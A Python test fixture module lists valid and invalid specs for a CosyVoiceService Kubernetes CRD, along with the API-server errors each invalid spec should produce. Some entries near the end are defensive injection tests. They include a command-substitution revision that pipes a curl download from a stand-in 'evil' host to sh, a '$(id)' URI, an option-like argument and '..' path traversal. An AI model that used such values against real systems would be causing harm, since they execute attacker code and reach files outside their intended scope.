"""The CosyVoiceService CRD as the tests see it: the file, its examples, a valid base spec and the
invalid cases the API server must refuse (each with the words its message must hold). Shared by
``tests/static/test_crd_schema.py`` (the file) and ``tests/cluster/test_crd_validation.py``
(the API server)."""

from __future__ import annotations

import copy
import subprocess
from pathlib import Path
from typing import Any, Protocol

import yaml

REPO = Path(__file__).resolve().parents[1]
CRD_FILE = REPO / "crds" / "cosyvoiceservices.tts.cosyvoice.dev.yaml"
EXAMPLES = sorted((REPO / "examples").glob("*.yaml"))

CRD_NAME = "cosyvoiceservices.tts.cosyvoice.dev"
API_VERSION = "tts.cosyvoice.dev/v1alpha1"
KIND = "CosyVoiceService"

Json = dict[str, Any]


class Cluster(Protocol):
    """What this module uses of the `cluster` fixture."""

    kubeconfig: str

    def kubectl(
        self, *args: str, input: str | None = None, check: bool = True
    ) -> subprocess.CompletedProcess[str]: ...

    def namespace(self, prefix: str) -> str: ...


# A valid spec every invalid case starts from: CosyVoice3, autoscaling on, one schedule.
BASE_SPEC: Json = {
    "model": {"variant": "cosyvoice3", "uri": "hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512"},
    "engine": {"precision": "bfloat16", "tensorParallelSize": 1, "maxBatchSize": 16},
    "serving": {
        "gpusPerReplica": 1,
        "dynamicBatching": {"preferredBatchSizes": [4, 8, 16]},
    },
    "replicas": 1,
    "autoscaling": {
        "enabled": True,
        "minReplicas": 1,
        "maxReplicas": 4,
        "schedules": [
            {"name": "business-hours", "start": "08:00", "end": "18:00", "minReplicas": 2}
        ],
    },
}


def merge_patch(target: Any, patch: Any) -> Any:
    """RFC 7386 JSON merge patch: dicts merge recursively, None deletes, the rest replaces."""
    if not isinstance(patch, dict):
        return copy.deepcopy(patch)
    result: Json = copy.deepcopy(target) if isinstance(target, dict) else {}
    for key, value in patch.items():
        if value is None:
            result.pop(key, None)
        else:
            result[key] = merge_patch(result.get(key), value)
    return result


def schedule(**fields: Any) -> list[Json]:
    """The base schedule list with the first entry changed (None deletes a field)."""
    return [merge_patch(BASE_SPEC["autoscaling"]["schedules"][0], fields)]


# (id, merge patch applied to BASE_SPEC, substrings the API server's error must contain).
# The first substring is always the full path of the offending field; for CEL rules the
# second is (part of) the rule's message.
INVALID_SPECS: list[tuple[str, Json, list[str]]] = [
    # --- replica bounds
    (
        "min-replicas-above-max",
        {"autoscaling": {"minReplicas": 5, "maxReplicas": 4, "schedules": None}},
        ["spec.autoscaling.minReplicas", "must be <= spec.autoscaling.maxReplicas"],
    ),
    (
        "max-replicas-zero",
        {"autoscaling": {"minReplicas": 0, "maxReplicas": 0, "schedules": None}},
        ["spec.autoscaling.maxReplicas", "greater than or equal to 1"],
    ),
    ("replicas-negative", {"replicas": -1}, ["spec.replicas", "greater than or equal to 0"]),
    ("replicas-not-integer", {"replicas": "two"}, ["spec.replicas", "integer"]),
    (
        "min-replicas-negative",
        {"autoscaling": {"minReplicas": -1}},
        ["spec.autoscaling.minReplicas", "greater than or equal to 0"],
    ),
    (
        "scale-down-step-zero",
        {"autoscaling": {"scaleDown": {"maxStepReplicas": 0}}},
        ["spec.autoscaling.scaleDown.maxStepReplicas"],
    ),
    (
        "scale-up-window-too-long",
        {"autoscaling": {"scaleUp": {"stabilizationWindowSeconds": 3601}}},
        ["spec.autoscaling.scaleUp.stabilizationWindowSeconds"],
    ),
    (
        "evaluation-interval-too-short",
        {"autoscaling": {"evaluationIntervalSeconds": 4}},
        ["spec.autoscaling.evaluationIntervalSeconds"],
    ),
    (
        "target-queue-latency-zero",
        {"autoscaling": {"targetQueueLatencyMilliseconds": 0}},
        ["spec.autoscaling.targetQueueLatencyMilliseconds"],
    ),
    (
        "mode-not-in-enum",
        {"autoscaling": {"mode": "Auto"}},
        ["spec.autoscaling.mode", "Unsupported value"],
    ),
    # --- GPUs and engine
    (
        "gpus-not-multiple-of-tensor-parallel",
        {"engine": {"tensorParallelSize": 2}, "serving": {"gpusPerReplica": 3}},
        [
            "spec.serving.gpusPerReplica",
            "must be a positive multiple of spec.engine.tensorParallelSize",
        ],
    ),
    (
        "gpus-fewer-than-tensor-parallel",
        {"engine": {"tensorParallelSize": 4}, "serving": {"gpusPerReplica": 2}},
        ["spec.serving.gpusPerReplica", "multiple of spec.engine.tensorParallelSize"],
    ),
    (
        "gpus-per-replica-zero",
        {"serving": {"gpusPerReplica": 0}},
        ["spec.serving.gpusPerReplica", "greater than or equal to 1"],
    ),
    (
        "tensor-parallel-three",
        {"engine": {"tensorParallelSize": 3}, "serving": {"gpusPerReplica": 3}},
        ["spec.engine.tensorParallelSize", "Unsupported value"],
    ),
    (
        "precision-not-in-enum",
        {"engine": {"precision": "int3"}},
        ["spec.engine.precision", "Unsupported value"],
    ),
    (
        "max-batch-size-zero",
        {"engine": {"maxBatchSize": 0}},
        ["spec.engine.maxBatchSize", "greater than or equal to 1"],
    ),
    (
        "max-batch-size-257",
        {"engine": {"maxBatchSize": 257}},
        ["spec.engine.maxBatchSize", "less than or equal to 256"],
    ),
    (
        "max-num-tokens-too-small",
        {"engine": {"maxNumTokens": 100}},
        ["spec.engine.maxNumTokens"],
    ),
    (
        "gpu-products-duplicate",
        {"engine": {"gpuProducts": ["NVIDIA-L20", "NVIDIA-L20"]}},
        ["spec.engine.gpuProducts[1]", "Duplicate value"],
    ),
    (
        "cache-claim-not-a-name",
        {"engine": {"cacheClaimName": "Engines_Cache"}},
        ["spec.engine.cacheClaimName"],
    ),
    (
        "instances-per-gpu-nine",
        {"serving": {"instancesPerGpu": 9}},
        ["spec.serving.instancesPerGpu", "less than or equal to 8"],
    ),
    # --- dynamic batching
    (
        "preferred-batch-size-above-max-batch-size",
        {"engine": {"maxBatchSize": 8}},
        [
            "spec.serving.dynamicBatching.preferredBatchSizes",
            "must be <= spec.engine.maxBatchSize",
        ],
    ),
    (
        "preferred-batch-sizes-not-increasing",
        {"serving": {"dynamicBatching": {"preferredBatchSizes": [8, 4, 16]}}},
        ["spec.serving.dynamicBatching.preferredBatchSizes", "strictly increasing"],
    ),
    (
        "preferred-batch-sizes-duplicate",
        {"serving": {"dynamicBatching": {"preferredBatchSizes": [4, 8, 8]}}},
        ["spec.serving.dynamicBatching.preferredBatchSizes", "must not repeat a size"],
    ),
    (
        "preferred-batch-size-zero",
        {"serving": {"dynamicBatching": {"preferredBatchSizes": [0, 4]}}},
        ["spec.serving.dynamicBatching.preferredBatchSizes[0]"],
    ),
    (
        "priority-levels-above-100",
        {"serving": {"dynamicBatching": {"priorityLevels": 101}}},
        ["spec.serving.dynamicBatching.priorityLevels"],
    ),
    (
        "queue-delay-negative",
        {"serving": {"dynamicBatching": {"maxQueueDelayMicroseconds": -1}}},
        ["spec.serving.dynamicBatching.maxQueueDelayMicroseconds"],
    ),
    # --- serving resources
    (
        "resources-set-gpu",
        {"serving": {"resources": {"limits": {"nvidia.com/gpu": 1}}}},
        ["spec.serving.resources.limits", "spec.serving.gpusPerReplica"],
    ),
    (
        "resources-bad-quantity",
        {"serving": {"resources": {"requests": {"memory": "lots"}}}},
        ["spec.serving.resources.requests"],
    ),
    # --- model
    (
        "uri-http-scheme",
        {"model": {"uri": "http://example.com/cosyvoice3"}},
        ["spec.model.uri", "must start with hf://, s3:// or pvc://"],
    ),
    (
        "uri-hf-without-name",
        {"model": {"uri": "hf://FunAudioLLM"}},
        ["spec.model.uri", "must be hf://ORG/NAME"],
    ),
    (
        "uri-hf-empty-name",
        {"model": {"uri": "hf://FunAudioLLM/"}},
        ["spec.model.uri", "must be hf://ORG/NAME"],
    ),
    (
        "uri-s3-without-path",
        {"model": {"uri": "s3://models"}},
        ["spec.model.uri", "must be s3://BUCKET/PATH"],
    ),
    (
        "uri-pvc-empty-path",
        {"model": {"uri": "pvc://model-store/"}},
        ["spec.model.uri", "must be pvc://CLAIM/PATH"],
    ),
    ("uri-missing", {"model": {"uri": None}}, ["spec.model.uri", "Required value"]),
    ("variant-missing", {"model": {"variant": None}}, ["spec.model.variant", "Required value"]),
    (
        "variant-not-in-enum",
        {"model": {"variant": "cosyvoice1"}},
        ["spec.model.variant", "Unsupported value"],
    ),
    (
        "credentials-secret-not-a-name",
        {"model": {"credentialsSecret": "HF Token"}},
        ["spec.model.credentialsSecret"],
    ),
    # --- unknown fields (strict server-side field validation)
    ("unknown-field-in-spec", {"foo": 1}, ['unknown field "spec.foo"']),
    ("unknown-field-in-engine", {"engine": {"foo": 1}}, ['unknown field "spec.engine.foo"']),
    (
        "unknown-field-in-schedule",
        {"autoscaling": {"schedules": schedule(floor=3)}},
        ['unknown field "spec.autoscaling.schedules[0].floor"'],
    ),
    # --- schedules
    (
        "schedule-min-replicas-above-max",
        {"autoscaling": {"maxReplicas": 4, "schedules": schedule(minReplicas=5)}},
        ["spec.autoscaling.schedules", "must be <= spec.autoscaling.maxReplicas"],
    ),
    (
        "schedule-start-not-hh-mm",
        {"autoscaling": {"schedules": schedule(start="8:00")}},
        ["spec.autoscaling.schedules[0].start"],
    ),
    (
        "schedule-end-hour-24",
        {"autoscaling": {"schedules": schedule(end="24:00")}},
        ["spec.autoscaling.schedules[0].end"],
    ),
    (
        "schedule-start-equals-end",
        {"autoscaling": {"schedules": schedule(start="09:00", end="09:00")}},
        ["spec.autoscaling.schedules[0]", "must differ from"],
    ),
    (
        "schedule-day-not-in-enum",
        {"autoscaling": {"schedules": schedule(daysOfWeek=["Monday"])}},
        ["spec.autoscaling.schedules[0].daysOfWeek[0]", "Unsupported value"],
    ),
    (
        "schedule-without-name",
        {"autoscaling": {"schedules": schedule(name=None)}},
        ["spec.autoscaling.schedules[0].name", "Required value"],
    ),
    (
        "schedule-names-duplicate",
        {"autoscaling": {"schedules": schedule() + schedule(start="20:00", end="22:00")}},
        ["spec.autoscaling.schedules[1]", "Duplicate value"],
    ),
    (
        "schedule-timezone-not-a-name",
        {"autoscaling": {"schedules": schedule(timezone="UTC+8 hours")}},
        ["spec.autoscaling.schedules[0].timezone"],
    ),
    # --- the levers: LLM runtime, quantization, queue policy, stream chunking
    (
        "llm-runtime-not-in-enum",
        {"model": {"llmRuntime": "sglang"}},
        ["spec.model.llmRuntime", "Unsupported value"],
    ),
    (
        # Refused until a vLLM serving image and an orchestrator that calls it exist.
        "vllm-refused",
        {"model": {"llmRuntime": "vllm"}},
        ["spec.model.llmRuntime", "vllm is not served yet"],
    ),
    (
        "smoothquant-options-without-smoothquant",
        {"engine": {"precision": "int8-weight-only", "smoothQuant": {"alpha": 0.5}}},
        ["spec.engine.smoothQuant", "only allowed with spec.engine.precision int8-smoothquant"],
    ),
    (
        "smoothquant-alpha-above-one",
        {"engine": {"precision": "int8-smoothquant", "smoothQuant": {"alpha": 1.5}}},
        ["spec.engine.smoothQuant.alpha", "less than or equal to 1"],
    ),
    (
        "fp8-engine-with-int8-kv-cache",
        {"engine": {"precision": "fp8", "kvCacheType": "int8"}},
        ["spec.engine.kvCacheType", "cannot go with spec.engine.precision fp8"],
    ),
    (
        "smoothquant-with-fp8-kv-cache",
        {"engine": {"precision": "int8-smoothquant", "kvCacheType": "fp8"}},
        ["spec.engine.kvCacheType", "cannot go with spec.engine.precision int8-smoothquant"],
    ),
    (
        "kv-cache-type-not-in-enum",
        {"engine": {"kvCacheType": "fp16"}},
        ["spec.engine.kvCacheType", "Unsupported value"],
    ),
    (
        "queue-timeout-action-not-in-enum",
        {"serving": {"queuePolicy": {"timeoutAction": "REJECT"}}},
        ["spec.serving.queuePolicy.timeoutAction", "Unsupported value"],
    ),
    (
        "queue-size-negative",
        {"serving": {"queuePolicy": {"maxQueueSize": -1}}},
        ["spec.serving.queuePolicy.maxQueueSize", "greater than or equal to 0"],
    ),
    (
        "priority-policy-above-the-levels",
        {
            "serving": {
                "dynamicBatching": {"priorityLevels": 2},
                "queuePolicy": {"priorityPolicies": [{"priorityLevel": 3, "maxQueueSize": 4}]},
            }
        },
        [
            "spec.serving.queuePolicy.priorityPolicies",
            "must be <= spec.serving.dynamicBatching.priorityLevels",
        ],
    ),
    (
        "priority-policy-level-twice",
        {
            "serving": {
                "queuePolicy": {
                    "priorityPolicies": [
                        {"priorityLevel": 1, "maxQueueSize": 4},
                        {"priorityLevel": 1, "maxQueueSize": 8},
                    ]
                }
            }
        },
        ["spec.serving.queuePolicy.priorityPolicies[1]", "Duplicate value"],
    ),
    (
        "first-chunk-zero-tokens",
        {"serving": {"streamChunking": {"firstChunkTokens": 0}}},
        ["spec.serving.streamChunking.firstChunkTokens", "greater than or equal to 1"],
    ),
    (
        "hop-growth-not-in-enum",
        {"serving": {"streamChunking": {"hopGrowth": "time_based"}}},
        ["spec.serving.streamChunking.hopGrowth", "Unsupported value"],
    ),
    # --- issue 21: shapes and sizes the operator used to crash on or carry (M2, M3, L1)
    (
        "affinity-required-a-string",
        {
            "serving": {
                "affinity": {
                    "nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": "x"}
                }
            }
        },
        ["spec.serving.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution"],
    ),
    (
        "affinity-term-a-string",
        {
            "serving": {
                "affinity": {
                    "nodeAffinity": {
                        "requiredDuringSchedulingIgnoredDuringExecution": {
                            "nodeSelectorTerms": ["x"]
                        }
                    }
                }
            }
        },
        ["nodeSelectorTerms[0]", "object"],
    ),
    (
        "affinity-values-not-a-list",
        {
            "serving": {
                "affinity": {
                    "nodeAffinity": {
                        "requiredDuringSchedulingIgnoredDuringExecution": {
                            "nodeSelectorTerms": [
                                {"matchExpressions": [{"key": "k", "operator": "In", "values": 5}]}
                            ]
                        }
                    }
                }
            }
        },
        ["matchExpressions[0].values", "array"],
    ),
    (
        "affinity-too-many-values",
        {
            "serving": {
                "affinity": {
                    "nodeAffinity": {
                        "requiredDuringSchedulingIgnoredDuringExecution": {
                            "nodeSelectorTerms": [
                                {
                                    "matchExpressions": [
                                        {
                                            "key": "k",
                                            "operator": "In",
                                            "values": [f"v{i}" for i in range(65)],
                                        }
                                    ]
                                }
                            ]
                        }
                    }
                }
            }
        },
        ["matchExpressions[0].values", "must have at most 64 items"],
    ),
    (
        "toleration-unknown-operator",
        {"serving": {"tolerations": [{"key": "k", "operator": "Matches"}]}},
        ["spec.serving.tolerations[0].operator", "Unsupported value"],
    ),
    (
        "node-selector-value-too-long",
        {"serving": {"nodeSelector": {"pool": "x" * 64}}},
        ["spec.serving.nodeSelector.pool", "Too long"],
    ),
    (
        "revision-command-substitution",
        {"model": {"revision": "$(curl${IFS}evil|sh)"}},
        ["spec.model.revision", "should match"],
    ),
    (
        "revision-option-like",
        {"model": {"revision": "--pvc-root=/etc"}},
        ["spec.model.revision", "should match"],
    ),
    ("revision-dot-dot", {"model": {"revision": "a/../../x"}}, ["must not contain '..'"]),
    (
        "uri-dot-dot-segment",
        {"model": {"uri": "pvc://model-store/../etc"}},
        ["spec.model.uri", "'.' or '..' path segments"],
    ),
    (
        "uri-command-substitution",
        {"model": {"uri": "s3://tts-models/$(id)/x"}},
        ["spec.model.uri", "'$('"],
    ),
    ("uri-escape", {"model": {"uri": "s3://tts-models/a\x1bb"}}, ["spec.model.uri", "control"]),
    # --- the default speaker (issue 19, item 5)
    (
        "speaker-audio-not-on-a-claim",
        {"speakers": {"default": {"audioUri": "s3://voices/a.wav", "transcript": "Hello."}}},
        ["spec.speakers.default.audioUri must be pvc://CLAIM/PATH"],
    ),
    (
        "speaker-audio-dot-dot",
        {"speakers": {"default": {"audioUri": "pvc://voices/../a.wav", "transcript": "Hi."}}},
        ["spec.speakers.default.audioUri", "'.' or '..' path segments"],
    ),
    (
        "speaker-without-transcript",
        {"speakers": {"default": {"audioUri": "pvc://voices/a.wav"}}},
        ["spec.speakers.default.transcript", "Required value"],
    ),
    (
        "speaker-transcript-blank",
        {"speakers": {"default": {"audioUri": "pvc://voices/a.wav", "transcript": "  "}}},
        ["spec.speakers.default.transcript must be what the audio says"],
    ),
    # --- routing
    (
        "routing-mode-unknown",
        {"routing": {"mode": "RoundRobin"}},
        ["spec.routing.mode", "Unsupported value"],
    ),
    (
        "routing-router-replicas-zero",
        {"routing": {"router": {"replicas": 0}}},
        ["spec.routing.router.replicas", "greater than or equal to 1"],
    ),
    (
        "routing-gateway-without-parents",
        {"routing": {"mode": "GatewayAPI"}},
        ["spec.routing.gateway.parentRefs needs at least one Gateway"],
    ),
    (
        "routing-gateway-parent-without-name",
        {"routing": {"mode": "GatewayAPI", "gateway": {"parentRefs": [{"kind": "Gateway"}]}}},
        ["spec.routing.gateway.parentRefs[0].name", "Required value"],
    ),
]


def crd() -> Json:
    doc = yaml.safe_load(CRD_FILE.read_text())
    assert isinstance(doc, dict)
    return doc


def schema_nodes(node: Json, path: str) -> list[tuple[str, Json]]:
    nodes = [(path, node)]
    for name, child in node.get("properties", {}).items():
        nodes += schema_nodes(child, f"{path}.{name}")
    if isinstance(node.get("items"), dict):
        nodes += schema_nodes(node["items"], f"{path}[]")
    if isinstance(node.get("additionalProperties"), dict):
        nodes += schema_nodes(node["additionalProperties"], f"{path}{{}}")
    return nodes
